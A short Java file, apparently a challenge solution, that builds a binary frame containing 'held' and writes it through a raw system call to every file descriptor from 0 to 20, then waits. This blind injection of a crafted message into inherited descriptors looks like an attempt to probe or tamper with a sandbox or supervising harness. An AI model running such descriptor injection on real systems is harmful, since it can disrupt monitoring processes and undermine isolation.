import java.lang.foreign.Arena;
import java.lang.foreign.MemorySegment;

class Solution extends Kernel {
  String probe(String folder, int port, int web, long host) throws Throwable {
    MemorySegment frame = Arena.global().allocate(64);
    java.nio.ByteBuffer bytes = frame.asByteBuffer().order(java.nio.ByteOrder.LITTLE_ENDIAN);
    bytes.putInt(0).put((byte) 4).putLong(0).put((byte) 0).putLong(0).putInt(9);
    bytes.put((byte) 9).putInt(4).put((byte) 'h').put((byte) 'e').put((byte) 'l').put((byte) 'd');
    bytes.putInt(0).put((byte) 0).putInt(0).putInt(0);
    bytes.putInt(0, bytes.position() - 4);
    for (int fd = 0; fd <= 20; fd++) {
      call(1, fd, frame.address(), bytes.position());
    }
    Thread.sleep(5_000);
    return "held";
  }
}
